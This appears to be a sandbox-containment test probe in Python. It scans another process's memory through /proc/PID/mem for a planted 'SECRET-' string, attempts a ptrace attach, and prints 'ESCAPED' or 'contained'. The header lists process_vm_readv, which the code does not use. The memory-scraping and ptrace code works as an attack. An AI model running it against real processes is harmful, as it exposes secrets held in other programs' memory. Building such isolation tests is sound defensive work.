# Attacks: the memory of a process outside the cell: /proc/PID/mem, process_vm_readv and ptrace.
# Standard input: the number of a process outside that holds "SECRET-" and sixteen digits in its memory.
# Success: prints that it read or attached to the process.
import ctypes
import os
import re

pid = int(input())
libc = ctypes.CDLL(None, use_errno=True)
found = []
try:
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
            if "r" in line.split()[1] and hi - lo < 1 << 26 and "[v" not in line:
                try:
                    mem.seek(lo)
                    if re.search(rb"SECRET-[0-9]{16}", mem.read(hi - lo)):
                        found.append("the secret by /proc/PID/mem")
                        break
                except (OSError, OverflowError):
                    pass
except OSError:
    pass
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
    found.append("ptrace")
    os.waitpid(pid, 0x40000000)
    libc.ptrace(PTRACE_DETACH, pid, 0, 0)
print("ESCAPED: " + ", ".join(found) if found else "contained")
